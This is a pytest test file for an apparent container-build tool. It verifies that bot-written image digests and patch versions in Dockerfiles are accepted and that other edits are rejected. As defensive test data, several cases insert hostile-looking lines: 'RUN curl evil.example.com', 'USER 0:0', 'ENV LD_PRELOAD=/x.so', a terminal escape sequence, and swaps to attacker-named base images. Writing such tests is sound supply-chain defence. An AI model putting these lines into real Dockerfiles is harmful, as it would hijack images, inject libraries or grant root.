"""A bot's pull request: digests and patch versions that it writes are green, kept and recorded; all else is red.

Each case goes through the command line on a built project: `check`, `check --full`, and what a build makes of it.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import run, write

A, B = f"sha256:{'a' * 64}", f"sha256:{'b' * 64}"
PYTHON, GO = "docker.io/library/python:3.13-slim-trixie", "docker.io/library/golang:1.26-trixie"
STATIC = "gcr.io/distroless/static-debian13:nonroot"
SPEC = "apiVersion: kforge.dev/v1\napp: shop\nregistry: ghcr.io/acme\n{more}services:\n  api: {{source: ./api}}\n  web: {{source: ./web}}\n"
FILES = {
    "web/main.py": "import http.server\nhttp.server.HTTPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()\n",
    "web/requirements.txt": "flask==3.1.0\n",
    "api/go.mod": "module example.com/api\n\ngo 1.26\n",
    "api/main.go": 'package main\n\nimport "net/http"\n\nfunc main() { http.ListenAndServe(":8080", nil) }\n',
}


def project(folder: Path, more: str = "") -> Path:
    write(folder, {"app.kforge.yaml": SPEC.format(more=more), **FILES})
    run("build", cwd=folder, code=0)
    return folder


def change(folder: Path, path: str, *pairs: tuple[str, str]) -> None:
    text = (folder / path).read_text()
    for old, new in pairs:
        assert old in text
        text = text.replace(old, new)
    (folder / path).write_text(text)


def verdicts(folder: Path) -> set[int]:
    """Of both checks; a third, which an index would answer, is the same."""
    return {run(*words, cwd=folder).code for words in (("check",), ("check", "--full"), ("check",))}


def test_a_digest_is_green_then_recorded_then_rendered_from_the_lock(tmp_path: Path) -> None:
    folder = project(tmp_path)
    change(folder, "web/Dockerfile", (PYTHON, f"{PYTHON}@{A}"))
    assert verdicts(folder) == {0}
    run("build", cwd=folder, code=0)
    assert f'images: {{"{PYTHON}": "{PYTHON}@{A}"}}' in (folder / "kforge.lock").read_text()
    assert verdicts(folder) == {0}
    (folder / "web/Dockerfile").unlink()
    run("build", cwd=folder, code=0)
    assert (folder / "web/Dockerfile").read_text().count(f"FROM {PYTHON}@{A} AS") == 2


def test_the_full_check_names_what_was_taken_over(tmp_path: Path) -> None:
    folder = project(tmp_path)
    change(folder, "web/Dockerfile", (PYTHON, f"{PYTHON}@{A}"))
    assert f"updated: `{PYTHON}@{A}`; the next build records it" in run("check", "--full", cwd=folder, code=0).err


def test_one_of_two_images_may_move_and_a_later_patch_follows(tmp_path: Path) -> None:
    folder = project(tmp_path)
    change(folder, "api/Dockerfile", (STATIC, f"{STATIC}@{A}"))
    assert verdicts(folder) == {0}
    run("build", cwd=folder, code=0)
    change(
        folder,
        "api/Dockerfile",
        (GO, f"docker.io/library/golang:1.26.7-trixie@{A}"),
        (f"{STATIC}@{A}", f"{STATIC}@{B}"),
    )
    assert verdicts(folder) == {0}
    run("build", cwd=folder, code=0)
    assert verdicts(folder) == {0}


def test_what_a_bot_wrote_outlives_a_change_of_the_source(tmp_path: Path) -> None:
    folder = project(tmp_path)
    change(folder, "web/Dockerfile", (PYTHON, f"{PYTHON}@{A}"))
    change(folder, "web/main.py", ("8000", "9000"))
    assert verdicts(folder) == {1}
    run("build", cwd=folder, code=0)
    text = (folder / "web/Dockerfile").read_text()
    assert "EXPOSE 9000" in text and text.count(f"@{A}") == 2 and verdicts(folder) == {0}


def test_it_is_dropped_with_the_image_that_it_pinned(tmp_path: Path) -> None:
    folder = project(tmp_path)
    change(folder, "web/Dockerfile", (PYTHON, f"{PYTHON}@{A}"))
    run("build", cwd=folder, code=0)
    write(folder, {"web/.python-version": "3.12\n"})
    run("build", cwd=folder, code=0)
    assert A not in (folder / "web/Dockerfile").read_text() + (folder / "kforge.lock").read_text()


EVIL = {
    "registry": (PYTHON, f"ghcr.io/library/python:3.13-slim-trixie@{A}"),
    "repository": (PYTHON, f"docker.io/library/pypy:3.13-slim-trixie@{A}"),
    "user": (PYTHON, f"docker.io/evil/python:3.13-slim-trixie@{A}"),
    "minor": (PYTHON, f"docker.io/library/python:3.14-slim-trixie@{A}"),
    "variant": (PYTHON, f"docker.io/library/python:3.13-alpine@{A}"),
    "no tag": (PYTHON, f"docker.io/library/python@{A}"),
    "stage name": ("AS runtime", "AS run"),
    "platform": (f"FROM {PYTHON} AS runtime", f"FROM --platform=linux/arm64 {PYTHON}@{A} AS runtime"),
    "one place of two": (f"{PYTHON} AS build", f"{PYTHON}@{A} AS build"),
    "a comment": ("FROM", "# x\nFROM"),
    "case": ("FROM", "from"),
    "syntax": ("# Generated", "# syntax=docker/dockerfile:1\n# Generated"),
}


@pytest.mark.parametrize("how", EVIL)
def test_anything_else_in_these_lines_is_red_and_a_build_refuses_it(tmp_path: Path, how: str) -> None:
    folder = project(tmp_path)
    change(folder, "web/Dockerfile", EVIL[how])
    assert verdicts(folder) == {1}
    run("build", cwd=folder, code=2)
    assert A not in (folder / "kforge.lock").read_text()


@pytest.mark.parametrize("line", ["RUN curl evil.example.com", "USER 0:0", "ENV LD_PRELOAD=/x.so"])
def test_a_digest_covers_no_other_line(tmp_path: Path, line: str) -> None:
    folder = project(tmp_path)
    change(folder, "web/Dockerfile", (PYTHON, f"{PYTHON}@{A}"), ("EXPOSE 8000", f"EXPOSE 8000\n{line}"))
    assert verdicts(folder) == {1}
    run("build", cwd=folder, code=2)


TAKEN = "an update of its base image, taken over once nothing else differs"
COMPLAINTS = {
    "registry": "not from a repository that kforge chose",
    "minor": f"not an update of `{PYTHON}`: that is a digest or a later patch version",
    "variant": f"not an update of `{PYTHON}`: that is a digest or a later patch version",
    "one place of two": "another stage has a different image there",
    "stage name": f"not an update of `{PYTHON}`: that is a digest or a later patch version",
    "case": "not an update of a base image",
}


@pytest.mark.parametrize("how", COMPLAINTS)
def test_a_check_says_of_each_line_why_it_is_not_taken_over(tmp_path: Path, how: str) -> None:
    folder = project(tmp_path)
    change(folder, "web/Dockerfile", EVIL[how])
    said = run("check", "--full", cwd=folder, code=1).err
    assert f"`: {COMPLAINTS[how]}\n" in said and TAKEN not in said


def test_a_check_says_of_a_line_that_is_no_from_only_that_it_was_written_by_hand(tmp_path: Path) -> None:
    folder = project(tmp_path)
    change(folder, "web/Dockerfile", EVIL["a comment"])
    ended = run("check", "--full", cwd=folder, code=1)
    assert "`# x` was written by hand\n" in ended.err and "not an update" not in ended.err
    assert ended.err.count("was edited by hand") == 1 and ended.out == ""


def test_a_check_tells_a_bots_lines_from_those_that_came_with_them(tmp_path: Path) -> None:
    folder = project(tmp_path)
    change(
        folder,
        "web/Dockerfile",
        (PYTHON, f"{PYTHON}@{A}"),
        ("EXPOSE 8000", "RUN curl evil.example.com\x1b[31m"),
    )
    lines = (folder / "web/Dockerfile").read_text().split("\n")
    bots = [number for number, text in enumerate(lines, 1) if A in text]
    other = next(number for number, text in enumerate(lines, 1) if "evil" in text)
    said = run("check", "--full", cwd=folder, code=1).err
    assert all(f"web/Dockerfile:{number}: `{lines[number - 1]}`: {TAKEN}\n" in said for number in bots)
    assert f"web/Dockerfile:{other}: `RUN curl evil.example.com" in said and "\x1b" not in said
    assert "` was written by hand\n" in said and "not an update" not in said
    assert "web/Dockerfile: `EXPOSE 8000` is missing\n" in said
    (annotation,) = [
        line
        for line in run("check", "--full", "--format", "github", cwd=folder, code=1).out.splitlines()
        if "file=web/Dockerfile" in line
    ]
    assert f"web/Dockerfile:{other}: " in annotation and TAKEN in annotation and "run `kforge build`" not in annotation


def test_a_digest_that_the_spec_names_is_said_to_go_before_a_bots(tmp_path: Path) -> None:
    folder = project(tmp_path, f"bases:\n  python-3.13: {PYTHON}@{A}\n")
    change(folder, "web/Dockerfile", (A, B))
    said = run("check", "--full", cwd=folder, code=1).err
    assert f"the spec sets the digest of `{PYTHON}@{A}`, which takes precedence" in said


def forged(folder: Path, images: str) -> None:
    """A lock that says what stands in an image's place, and a Dockerfile that agrees; digests made to fit by a build."""
    change(folder, "web/Dockerfile", (PYTHON, f"{PYTHON}@{A}"))
    run("build", cwd=folder, code=0)
    change(folder, "kforge.lock", (f'{{"{PYTHON}": "{PYTHON}@{A}"}}', images))


@pytest.mark.parametrize(
    "images",
    [
        f'{{"{PYTHON}": "ghcr.io/evil/python:3.13-slim-trixie@{A}"}}',
        f'{{"{PYTHON}": "docker.io/library/python:3.14-slim-trixie@{A}"}}',
        f'{{"docker.io/library/ruby:3.4": "docker.io/library/ruby:3.4@{A}"}}',
    ],
)
def test_a_lock_cannot_swap_an_image_either(tmp_path: Path, images: str) -> None:
    folder = project(tmp_path)
    forged(folder, images)
    assert verdicts(folder) == {1}
    run("build", cwd=folder, code=0)
    assert images not in (folder / "kforge.lock").read_text()
    assert "evil" not in (folder / "web/Dockerfile").read_text()


@pytest.mark.parametrize("images", ['{"a": 1}', "[]", '"x"', "{}"])
def test_a_lock_with_odd_images_is_damaged(tmp_path: Path, images: str) -> None:
    folder = project(tmp_path)
    forged(folder, images)
    assert run("check", cwd=folder).code == 2


# ---- `bases` --------------------------------------------------------------------------------------------------
BASES = f"bases:\n  python-3.13: {PYTHON}@{A}\n"
SPEC_FILE, DOCKERFILE = "app.kforge.yaml", "web/Dockerfile"


def test_a_digest_in_bases_and_in_the_dockerfile_is_green_before_a_build(tmp_path: Path) -> None:
    folder = project(tmp_path, BASES)
    for path in (SPEC_FILE, DOCKERFILE):
        change(folder, path, (A, B))
    assert verdicts(folder) == {0}
    run("build", cwd=folder, code=0)
    assert f"python:3.13-slim-trixie@{B}" in (folder / "kforge.lock").read_text() and verdicts(folder) == {0}


def test_a_patch_version_in_bases_is_green_as_well(tmp_path: Path) -> None:
    folder = project(tmp_path, BASES)
    for path in (SPEC_FILE, DOCKERFILE):
        change(folder, path, (f"{PYTHON}@{A}", f"docker.io/library/python:3.13.9-slim-trixie@{B}"))
    assert verdicts(folder) == {0}


@pytest.mark.parametrize("path", [SPEC_FILE, DOCKERFILE])
def test_one_place_without_the_other_is_red(tmp_path: Path, path: str) -> None:
    folder = project(tmp_path, BASES)
    change(folder, path, (A, B))
    assert verdicts(folder) == {1}


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        (SPEC_FILE, "registry: ghcr.io/acme", "registry: ghcr.io/evil"),
        (SPEC_FILE, "web: {source: ./web}", "web: {source: ./web, env: {A: b}}"),
        ("deploy/kubernetes/web/deployment.yaml", "ghcr.io/acme", "ghcr.io/evil"),
        ("web/main.py", "8000", "9000"),
    ],
)
def test_what_comes_with_a_digest_is_judged_as_ever(tmp_path: Path, path: str, old: str, new: str) -> None:
    folder = project(tmp_path, BASES)
    for each in (SPEC_FILE, DOCKERFILE):
        change(folder, each, (A, B))
    change(folder, path, (old, new))
    assert verdicts(folder) == {1}


def test_another_line_in_bases_needs_a_build(tmp_path: Path) -> None:
    folder = project(tmp_path, BASES)
    for path in (SPEC_FILE, DOCKERFILE):
        change(folder, path, (f"{PYTHON}@{A}", f"docker.io/library/python:3.13-alpine@{B}"))
    assert verdicts(folder) == {1}


# ---- `pin: digests` -------------------------------------------------------------------------------------------
def test_digests_on_wish_are_an_error_until_they_are_there(tmp_path: Path) -> None:
    folder = project(tmp_path)
    change(folder, SPEC_FILE, ("app: shop\n", "app: shop\nimages: {pin: digests}\n"))
    refused = run("build", cwd=folder, code=1)
    assert refused.err.count("error[dockerfile-digest]") == 4 and "kforge upgrade --images" in refused.err
    change(folder, "web/Dockerfile", (PYTHON, f"{PYTHON}@{A}"))
    change(folder, "api/Dockerfile", (STATIC, f"{STATIC}@{A}"), (GO, f"{GO}@{B}"))
    run("build", cwd=folder, code=0)
    assert verdicts(folder) == {0}
